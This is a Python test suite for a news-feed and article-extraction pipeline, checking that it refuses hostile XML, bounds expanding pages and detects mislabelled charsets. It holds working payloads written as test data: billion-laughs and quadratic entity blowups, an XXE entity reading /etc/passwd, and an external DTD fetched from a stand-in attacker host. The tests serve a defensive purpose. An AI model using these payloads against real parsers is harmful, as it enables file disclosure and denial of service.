"""Hostile input (issue 15, points 4 to 6): XML entities, unbounded extraction work, lying charsets."""

from __future__ import annotations

import gzip
import os
import time
from collections.abc import Iterator
from datetime import datetime, timezone
from typing import TYPE_CHECKING

import pytest

from storywire.connectors.articles import extract as extract_module
from storywire.connectors.articles.charset import check_text
from storywire.connectors.articles.extract import extract_page
from storywire.connectors.articles.settings import DEFAULT_MAX_TEXT_CHARS, ExtractionLimits
from storywire.connectors.articles.worker import IsolatedWorker
from storywire.connectors.errors import (
    EncodingError,
    ExtractionTimeoutError,
    ExtractorCrashedError,
    UnsafeXmlError,
)
from storywire.connectors.failures import Stage
from storywire.connectors.feeds.parse import parse_feed
from storywire.connectors.http_types import CapturedResponse
from storywire.pipelines.core.normalise import PageTask
from storywire.schemas.records import Article

if TYPE_CHECKING:
    from storywire.pipelines.beam.articles import _ExtractFn

# The worker process imports this module to run _spin and _crash: Beam is imported only where a test needs it.

SEEN = datetime(2023, 5, 3, 9, 0, tzinfo=timezone.utc)
ITEM = "<item><title>{title}</title><link>https://o.example/a</link></item>"


def _feed(doctype: str, title: str = "&lol9;", prolog: str = "", declaration: str = "utf-8") -> str:
    return (
        f'<?xml version="1.0" encoding="{declaration}"?>{prolog}{doctype}'
        f'<rss version="2.0"><channel><title>t</title>{ITEM.format(title=title)}</channel></rss>'
    )


LAUGHS = (
    '<!DOCTYPE rss [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">' for i in range(1, 10))
    + "]>"
)
# The quadratic blow-up feedparser itself would expand: one long text entity, referenced many times.
QUADRATIC = f'<!DOCTYPE rss [\n<!ENTITY big "{"x" * 20_000}">\n]>'


def _refused(body: bytes, content_type: str | None = "application/rss+xml") -> UnsafeXmlError:
    started = time.perf_counter()
    with pytest.raises(UnsafeXmlError, match="declares entities") as info:
        parse_feed(body, "https://o.example/rss", SEEN, content_type)
    assert time.perf_counter() - started < 1.0
    return info.value


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le"])
def test_billion_laughs_is_refused_in_utf16_and_utf32(codec: str) -> None:
    declared = "-".join(codec.split("-")[:2])  # utf-16-le is declared utf-16
    body = _feed(LAUGHS, declaration=declared).encode(codec)
    _refused(body)
    _refused(body, f"application/rss+xml; charset={codec}")


def test_quadratic_blowup_in_utf16_is_refused() -> None:
    _refused(_feed(QUADRATIC, title="&big;" * 2000, declaration="utf-16").encode("utf-16"))


def test_a_doctype_after_the_first_4_kib_is_refused() -> None:
    padding = "<!-- " + "padding " * 1000 + "-->\n"
    assert len(padding) > 4096
    error = _refused(_feed(QUADRATIC, title="&big;" * 100, prolog=padding).encode())
    assert "internal subset" in str(error)
    _refused(_feed(QUADRATIC, prolog=" \n" * 5000).encode())


def test_external_entities_are_refused() -> None:
    _refused(_feed('<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', title="&xxe;").encode())
    _refused(_feed('<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>', title="x").encode())
    # An external DTD subset alone declares nothing and is not fetched: accepted (see below).


def test_an_internal_subset_without_entities_is_refused_too() -> None:
    _refused(_feed("<!DOCTYPE rss [<!ELEMENT rss ANY>]>", title="x").encode())


def test_entities_behind_a_broken_prolog_are_caught_by_the_second_check() -> None:
    # expat stops at the stray "<<" and never sees the DTD; feedparser's lenient parser would still expand it.
    body = _feed(QUADRATIC, title="&big;" * 100, prolog="<<\n").encode()
    assert "entity declarations big" in str(_refused(body))


def test_a_plain_doctype_without_internal_subset_is_accepted() -> None:
    doctype = (
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    )
    padding = "<!-- " + "padding " * 1000 + "-->\n"
    for codec in ("utf-8", "utf-16"):
        for body in (
            _feed(doctype, title="Plain &amp; simple", declaration=codec),
            _feed(doctype, title="Late", prolog=padding, declaration=codec),
        ):
            parsed = parse_feed(body.encode(codec), "https://o.example/rss", SEEN, "application/rss+xml")
            assert [item.link for item in parsed.items] == ["https://o.example/a"]
    parsed = parse_feed(_feed(doctype, title="Plain &amp; simple").encode(), "https://o.example/rss", SEEN)
    assert parsed.items[0].title == "Plain & simple"


# -- unbounded extraction work (point 5) -----------------------------------------------------------------

T0 = datetime(2023, 5, 3, 8, 0, tzinfo=timezone.utc)
RU = "Правительство объявило о новых мерах поддержки малого бизнеса в регионах страны."  # noqa: RUF001
JA = "政府は地方の中小企業を支援する新たな措置を発表しました。専門家は効果を疑問視しており、追加の予算が必要だ。"
ZH = "政府宣布了支持各地区小企业的新措施。专家对其效果表示怀疑，认为需要更多资金和透明度。"  # noqa: RUF001
FR = "Le café de la gare a rouvert ses portes après des travaux de rénovation qui ont duré deux ans."


def _html(paragraphs: list[str], title: str = "Title", meta: str = "") -> str:
    body = "".join(f"<p>{p} ({n})</p>" for n, p in enumerate(paragraphs))  # distinct: trafilatura drops repeats
    return (
        f"<!doctype html><html><head>{meta}<title>{title}</title></head><body><nav><a href='/'>Home</a></nav>"
        f"<article><h1>{title}</h1>{body}</article><footer>Copyright Example Media</footer></body></html>"
    )


def _response(body: bytes, content_type: str = "text/html; charset=utf-8") -> CapturedResponse:
    return CapturedResponse("https://o.example/a", T0, 200, (("Content-Type", content_type),), body, "test#offset=0")


def _expanding_page(megabytes: int, unit: str) -> bytes:
    """What a few KB of gzip expand to: megabytes of nearly the same markup (``{n}`` numbers each copy)."""
    body = _html(["Officials said the harbour inquiry would report before the summer recess."] * 3)
    repeated = "".join(unit.format(n=n) for n in range(megabytes * 1024 * 1024 // len(unit)))
    page = body.replace("</article>", repeated + "</article>").encode()
    assert len(gzip.compress(page)) < megabytes * 1024 * 1024 / 150
    return page


# The extractor's worst case we know: 6-12 s and 340 MB per MiB (no {n}: nested markup is not dropped as a repeat).
DENSE = "<div><span>word</span> <a href='/x'>link</a></div>\n"
WORDS = "<p>{n} " + "word " * 200 + "</p>\n"


@pytest.fixture(scope="module")
def worker() -> Iterator[IsolatedWorker]:
    with IsolatedWorker(timeout_s=20.0) as started:
        yield started


def test_a_9_mb_expanding_page_is_cut_bounded_and_flagged(worker: IsolatedWorker) -> None:
    body = _expanding_page(9, WORDS)
    started = time.perf_counter()
    page = extract_page(_response(body), worker=worker)  # the defaults: 2 MiB of markup, 200,000 characters
    elapsed = time.perf_counter() - started
    assert page.text_truncated and DEFAULT_MAX_TEXT_CHARS * 0.9 < len(page.text) <= DEFAULT_MAX_TEXT_CHARS
    assert elapsed < 15.0, elapsed  # about 2 s; uncut, the text is 9 million characters


def test_dense_markup_is_cut_to_the_html_limit_before_extraction(worker: IsolatedWorker) -> None:
    body = _expanding_page(9, DENSE)
    limits = ExtractionLimits(max_html_bytes=64 * 1024, max_text_chars=20_000, timeout_s=20.0)
    started = time.perf_counter()
    page = extract_page(_response(body), limits=limits, worker=worker)
    assert page.text_truncated and len(page.text) <= 20_000
    assert time.perf_counter() - started < 15.0  # uncut, the 9 MB run past the 20 s limit (about 90 s)


def test_text_under_the_limits_is_whole_and_not_flagged() -> None:
    page = extract_page(_response(_html([FR] * 6).encode()))
    assert not page.text_truncated and page.text.endswith("deux ans. (5)") and not page.charset_corrected


def _extract_fn(limits: ExtractionLimits) -> _ExtractFn:
    from storywire.pipelines.beam.articles import _ExtractFn

    return _ExtractFn(limits)


def _spin(*_: object) -> None:
    while True:
        pass


def _crash(*_: object) -> None:
    os._exit(3)


def test_a_page_that_spins_the_extractor_is_stopped_within_the_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    good = _response(_html([FR] * 4).encode())
    with IsolatedWorker(timeout_s=1.0) as isolated:
        monkeypatch.setattr(extract_module, "_run_trafilatura", _spin)
        started = time.perf_counter()
        with pytest.raises(ExtractionTimeoutError, match="1 s extraction time limit"):
            extract_page(good, worker=isolated)
        assert 1.0 <= time.perf_counter() - started < 3.0
        monkeypatch.undo()
        assert extract_page(good, worker=isolated).text.startswith("Le café")  # a new worker took over
        assert isolated.restarts == 1


def test_a_worker_that_dies_is_reported_and_replaced(monkeypatch: pytest.MonkeyPatch) -> None:
    good = _response(_html([FR] * 4).encode())
    with IsolatedWorker(timeout_s=20.0) as isolated:
        monkeypatch.setattr(extract_module, "_run_trafilatura", _crash)
        with pytest.raises(ExtractorCrashedError, match="died"):
            extract_page(good, worker=isolated)
        monkeypatch.undo()
        assert extract_page(good, worker=isolated).text.startswith("Le café")
        assert isolated.restarts == 1


def test_a_worker_past_its_memory_threshold_is_replaced_after_the_page() -> None:
    good = _response(_html([FR] * 4).encode())
    with IsolatedWorker(timeout_s=20.0, recycle_bytes=1) as isolated:  # every worker is past 1 byte
        first = isolated.pid if isolated.start() is None else None
        assert extract_page(good, worker=isolated).text.startswith("Le café")
        assert isolated.restarts == 1 and isolated.pid is None and first is not None


def test_the_extract_step_dead_letters_a_spinning_page_and_goes_on(monkeypatch: pytest.MonkeyPatch) -> None:
    fn = _extract_fn(ExtractionLimits(timeout_s=1.0))
    fn.setup()
    try:
        task = PageTask(item=None, first_seen_at=T0, response=_response(_html([FR] * 4).encode()))
        monkeypatch.setattr(extract_module, "_run_trafilatura", _spin)
        (letter,) = list(fn.process(task))
        record = letter.value
        assert record.stage == Stage.EXTRACT_ARTICLE.value and record.error_type == "ExtractionTimeoutError"
        monkeypatch.undo()
        (article,) = list(fn.process(task))
        assert isinstance(article, Article) and not article.text_truncated
    finally:
        fn.teardown()
    assert fn._worker is None


def test_the_extract_step_marks_a_cut_article() -> None:
    fn = _extract_fn(ExtractionLimits(max_text_chars=300, timeout_s=None))
    fn.setup()
    task = PageTask(item=None, first_seen_at=T0, response=_response(_html([FR] * 6).encode()))
    (article,) = list(fn.process(task))
    assert article.text_truncated and len(article.text) <= 300


# -- lying charsets (point 6) ----------------------------------------------------------------------------


@pytest.mark.parametrize(("text", "codec"), [(RU, "cp1251"), (JA, "shift_jis"), (ZH, "gb2312")])
def test_legacy_bytes_labelled_utf8_are_decoded_with_the_charset_that_fits(text: str, codec: str) -> None:
    body = _html([text] * 8, title=text[:12]).encode(codec)
    page = extract_page(_response(body, "text/html; charset=utf-8"))
    assert page.charset_corrected and "\ufffd" not in page.text
    assert page.text.split("\n")[0] == f"{text} (0)" and page.title == text[:12]


@pytest.mark.parametrize("label", ["windows-1251", "cp1251", "iso-8859-1", "latin-1", "shift_jis", "gb2312"])
@pytest.mark.parametrize("text", [RU, FR, ZH])
def test_utf8_bytes_labelled_legacy_are_read_as_utf8(text: str, label: str) -> None:
    page = extract_page(_response(_html([text] * 8).encode(), f"text/html; charset={label}"))
    assert page.charset == "utf-8" and page.charset_corrected and page.text.split("\n")[0] == f"{text} (0)"


def test_a_lying_header_loses_to_the_page_meta_declaration() -> None:
    body = _html([RU] * 8, meta='<meta http-equiv="Content-Type" content="text/html; charset=windows-1251">')
    page = extract_page(_response(body.encode("cp1251"), "text/html; charset=utf-8"))
    assert page.charset == "cp1251" and page.text.split("\n")[0] == f"{RU} (0)"


def test_text_of_replacement_characters_is_refused() -> None:
    # Valid UTF-8 that carries U+FFFD already (a page damaged upstream): nothing to correct, nothing to keep.
    damaged = RU.encode("cp1251").decode("utf-8", errors="replace")
    with pytest.raises(EncodingError, match="U\\+FFFD"):
        extract_page(_response(_html([damaged] * 8).encode()))


def test_mojibake_that_decodes_without_error_is_refused() -> None:
    # GB2312 bytes labelled latin-1 decode "fine": every byte is a latin-1 character (mojibake).
    with pytest.raises(EncodingError, match="mojibake"):
        extract_page(_response(_html([ZH] * 8).encode("gb2312"), "text/html; charset=iso-8859-1"))
    # ... and so do Shift_JIS bytes labelled windows-1251.
    with pytest.raises(EncodingError, match="mojibake"):
        extract_page(_response(_html([JA] * 8).encode("shift_jis"), "text/html; charset=windows-1251"))


@pytest.mark.parametrize("text", [RU, JA, ZH, FR, "Die Straße über den Fluß wurde gesperrt; Bürger äußerten Ärger."])
def test_clean_text_in_any_script_passes_the_check(text: str) -> None:
    check_text(text * 20, max_replacement_ratio=0.01, max_mess_ratio=0.2, charset="utf-8")


def test_the_extract_step_dead_letters_garbled_text_as_encoding_error() -> None:
    fn = _extract_fn(ExtractionLimits(timeout_s=None))
    fn.setup()
    body = _html([ZH] * 8).encode("gb2312")
    task = PageTask(item=None, first_seen_at=T0, response=_response(body, "text/html; charset=iso-8859-1"))
    (letter,) = list(fn.process(task))
    assert letter.value.error_type == "EncodingError" and letter.value.stage == Stage.EXTRACT_ARTICLE.value
